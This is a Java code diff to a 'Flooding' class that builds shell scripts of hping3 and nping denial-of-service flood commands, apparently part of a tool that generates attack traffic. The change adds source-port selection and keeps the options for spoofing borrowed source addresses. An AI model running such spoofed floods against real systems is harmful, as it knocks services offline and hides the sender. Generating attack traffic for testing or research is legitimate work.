@@ -6,6 +6,8 @@ import java.util.Locale;
 /** Denial of service: floods at several rates, from the own address or borrowed ones, and connections that are held. */
 final class Flooding {
     private static final int LIMIT_SECONDS = 60;
+    private static final int FIRST_PORT = 1024;
+    private static final int PORTS = 60_000;
     private static final int BORROWED = 8;
     private static final double SPOOFED = 0.4;
 
@@ -83,15 +85,18 @@ final class Flooding {
         for (int i = 0; i < senders; i++) {
             String source = spoofed ? draw.borrowedAddress() : "";
             // hping3 sends each packet from another port, nping all from one; hping3's count is on its standard error.
-            script.append(
-                    nping
-                            ? "nping -q -N --send-ip" + what + " --rate " + perSecond + " -c "
-                                    + each + " --ttl " + draw.client().ttl()
-                                    + (spoofed ? " -S " + source : "") + " " + target + "; "
-                            : "hping3 -q -n" + what + " -i u" + 1_000_000 / perSecond + " -c " + each + " -t "
-                                    + draw.client().ttl() + " -N " + draw.between(1, 65_000)
-                                    + (spoofed ? " -a " + source : "") + " " + target + " > /dev/null"
-                                    + (spoofed ? next : "; "));
+            if (nping) {
+                script.append("nping -q -N --send-ip" + what + " --rate " + perSecond + " -c " + each + " --ttl "
+                        + draw.client().ttl() + (spoofed ? " -S " + source : "") + " " + target + "; ");
+            } else {
+                int id = draw.between(1, 65_000);
+                // The first port would be the same for all that start within a second, and an address may be borrowed
+                // twice.
+                String ports = icmp ? "" : " -s " + (FIRST_PORT + id % PORTS);
+                script.append("hping3 -q -n" + what + ports + " -i u" + 1_000_000 / perSecond + " -c " + each + " -t "
+                        + draw.client().ttl() + " -N " + id + (spoofed ? " -a " + source : "") + " " + target
+                        + " > /dev/null" + (spoofed ? next : "; "));
+            }
         }
         script.append(spoofed && !nping ? "wait" : "");
         return new Task(
